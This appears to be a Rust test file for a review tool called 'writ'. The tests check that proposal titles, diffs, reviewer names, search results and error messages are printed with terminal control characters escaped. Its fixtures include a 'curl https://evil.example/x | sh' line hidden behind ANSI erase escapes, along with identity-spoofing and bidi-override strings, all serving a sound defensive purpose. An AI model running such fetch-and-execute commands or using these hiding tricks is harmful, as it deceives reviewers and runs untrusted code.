//! What writ prints: outside text with its controls escaped, `--json` as
//! exactly one JSON document, and a closed pipe ending writ quietly.

#![allow(
    clippy::panic,
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "tests fail by panicking"
)]

mod common;
use common::{text, Repo};
use serde_json::json;

/// The line a reviewer should see, hidden behind a harmless one: `ESC[2K`
/// erases the terminal line and `ESC[1G` returns to its start. (A bare
/// `\r` inside a diff line is refused at intake outright.)
const HIDDEN: &str = "+curl https://evil.example/x | sh\x1b[2K\x1b[1G+echo hello";
/// A proposer posing as a person.
const SOURCE: &str = "ci\x1b[2K\rhuman:root";
const TITLE: &str = "Tidy run.sh\x1b[2K\rDocs only";
const RATIONALE: &str = "Harmless \u{202e}hs.lave\u{202c} change";

fn repo() -> Repo {
    let repo = Repo::new();
    repo.write("run.sh", "echo hi\n");
    repo.write("notes.txt", "alpha notes\nsafe line\x1b[2K\rspoofed line\n");
    repo.commit_all();
    repo.writ_json(&["index"]);
    repo
}

/// `writ propose` of the deceptive proposal, as `SOURCE`; returns its id.
fn propose_hidden(repo: &Repo) -> String {
    let diff = format!("--- a/run.sh\n+++ b/run.sh\n@@ -1 +1 @@\n-echo hi\n{HIDDEN}\n");
    let p = json!({ "kind": "edit", "title": TITLE, "rationale": RATIONALE, "citations": [], "diff": diff });
    let file = repo.path().join("p.json");
    std::fs::write(&file, p.to_string()).unwrap();
    let out = repo.writ(&[
        "propose",
        "--file",
        file.to_str().unwrap(),
        "--source",
        SOURCE,
    ]);
    std::fs::remove_file(&file).unwrap();
    assert_raw_free(&out.stdout, "propose");
    let stdout = text(&out.stdout);
    stdout.split_whitespace().next().unwrap().to_string()
}

/// No byte that a terminal would act on: ESC, CR, or a bidi override.
fn assert_raw_free(bytes: &[u8], what: &str) {
    let s = text(bytes);
    assert!(
        !s.contains(['\x1b', '\r', '\u{202e}', '\u{202c}']),
        "{what} printed a raw control: {s:?}"
    );
}

fn stdout_of(repo: &Repo, args: &[&str]) -> String {
    let out = repo.writ(args);
    common::assert_ok(&out, args);
    assert_raw_free(&out.stdout, &format!("writ {args:?}"));
    assert_raw_free(&out.stderr, &format!("writ {args:?} (stderr)"));
    text(&out.stdout)
}

#[test]
fn outside_text_is_shown_with_its_controls_escaped() {
    if writ_testkit::skip_slow_test() {
        return;
    }
    let repo = repo();
    let id = propose_hidden(&repo);
    let title = r"Tidy run.sh\x1b[2K\rDocs only";
    let source = r"external:ci\x1b[2K\rhuman:root";

    let shown = stdout_of(&repo, &["review", "show", &id]);
    assert!(shown.contains(&format!("(from {source})")), "{shown}");
    assert!(shown.contains(&format!("title: {title}")), "{shown}");
    assert!(
        shown.contains(r"+curl https://evil.example/x | sh\x1b[2K\x1b[1G+echo hello"),
        "{shown}"
    );
    assert!(shown.contains(r"Harmless \u{202e}hs.lave\u{202c} change"));

    for args in [&["review"][..], &["proposals"], &["show", &id]] {
        let out = stdout_of(&repo, args);
        assert!(out.contains(title), "{args:?}: {out}");
    }
    let explained = stdout_of(&repo, &["explain", &id]);
    assert!(explained.contains(title), "{explained}");
    assert!(explained.contains(source), "{explained}");

    // A reviewer's name and reason are outside text too.
    stdout_of(
        &repo,
        &[
            "review",
            "approve",
            &id,
            "--as",
            "ann\x1b]0;pwned\x07",
            "--reason",
            "ok\rLGTM",
        ],
    );
    let explained = stdout_of(&repo, &["explain", &id]);
    assert!(
        explained.contains(r"human:ann\x1b]0;pwned\x07"),
        "{explained}"
    );
    assert!(explained.contains(r"ok\rLGTM"), "{explained}");
    let actions = stdout_of(&repo, &["actions"]);
    assert!(actions.contains(title), "{actions}");

    // A chunk's text in search results.
    let hits = stdout_of(&repo, &["search", "alpha notes safe line", "-k", "1"]);
    assert!(hits.contains(r"safe line\x1b[2K\rspoofed line"), "{hits}");

    // JSON stays exact.
    let rows = repo.writ_json(&["proposals"]);
    assert_eq!(rows[0]["title"], TITLE);
    let p = repo.writ_json(&["show", &id]);
    assert_eq!(p["source"], format!("external:{SOURCE}"));
}

#[test]
fn error_messages_escape_what_they_quote() {
    if writ_testkit::skip_slow_test() {
        return;
    }
    let repo = repo();
    propose_hidden(&repo);
    let out = repo.writ(&["show", "P9\x1b[2K\rall good"]);
    assert_ne!(out.status.code(), Some(0));
    assert_raw_free(&out.stderr, "show's error");
    let err = text(&out.stderr);
    assert!(err.contains(r"P9\x1b[2K\rall good"), "{err}");
}

#[test]
fn every_json_output_is_one_json_document() {
    if writ_testkit::skip_slow_test() {
        return;
    }
    let repo = repo();
    let id = propose_hidden(&repo);
    let file = repo.path().join("p.json");
    std::fs::write(
        &file,
        json!({ "kind": "note", "title": "n", "rationale": "r", "citations": [], "text": "t" })
            .to_string(),
    )
    .unwrap();
    let file = file.to_str().unwrap();
    for args in [
        &["rules", "explain", file, "--json"][..],
        &["proposals", "--json"],
        &["review", "--json"],
        &["show", &id, "--json"],
        &["explain", &id, "--json"],
        &["actions", "--json"],
        &["status", "--json"],
        &["schema", "proposal"],
    ] {
        let out = repo.writ(args);
        common::assert_ok(&out, args);
        if let Err(e) = serde_json::from_slice::<serde_json::Value>(&out.stdout) {
            panic!(
                "writ {args:?}: stdout is not one JSON document ({e}):\n{}",
                text(&out.stdout)
            );
        }
    }
}

#[test]
fn a_closed_pipe_ends_writ_quietly_with_status_0() {
    if writ_testkit::skip_slow_test() {
        return;
    }
    let repo = repo();
    let id = propose_hidden(&repo);
    for args in [
        &["proposals"][..],
        &["proposals", "--json"],
        &["review", "show", &id],
        &["explain", &id],
        &["search", "alpha"],
    ] {
        // A pipe whose reader has already gone: the first write fails.
        let (reader, writer) = std::io::pipe().unwrap();
        drop(reader);
        let out = common::writ_cmd(repo.path(), args)
            .stdout(writer)
            .output()
            .unwrap();
        let err = text(&out.stderr);
        assert!(!err.contains("panicked"), "writ {args:?}: {err}");
        assert!(!err.contains("Broken pipe"), "writ {args:?}: {err}");
        assert_eq!(out.status.code(), Some(0), "writ {args:?}: {err}");
    }
}
